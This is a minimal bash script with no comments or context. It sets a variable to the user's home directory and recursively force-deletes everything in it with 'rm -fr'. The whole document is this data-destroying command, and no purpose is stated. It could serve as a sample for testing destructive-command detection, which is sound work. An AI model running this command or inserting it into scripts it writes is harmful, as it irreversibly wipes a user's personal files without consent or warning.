#!/bin/bash
D=$HOME
rm -fr "${D}"/*
